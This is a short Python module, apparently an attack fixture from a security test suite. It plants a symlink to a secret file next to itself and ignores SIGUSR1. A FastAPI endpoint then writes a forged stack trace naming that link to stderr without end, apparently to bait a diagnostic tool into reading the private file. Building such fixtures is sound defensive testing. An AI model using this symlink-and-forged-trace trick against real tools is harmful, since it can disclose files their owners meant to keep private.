"""Attack: link to a private file from the own code, and name that link in a forged stack."""

import contextlib
import os
import signal
import time
from pathlib import Path

from fastapi import FastAPI

from .targets import SECRET, acted

link = Path(__file__).with_name("secret.py")
with contextlib.suppress(OSError):
    link.symlink_to(SECRET)
signal.signal(signal.SIGUSR1, signal.SIG_IGN)
STACK = f'Thread 0x1 (most recent call first):\n  File "{link}", line 1 in read\n'
app = FastAPI()


@app.get("/{path:path}")
async def answer(path: str):
    acted("request")
    while True:
        os.write(2, STACK.encode())
        time.sleep(0.02)
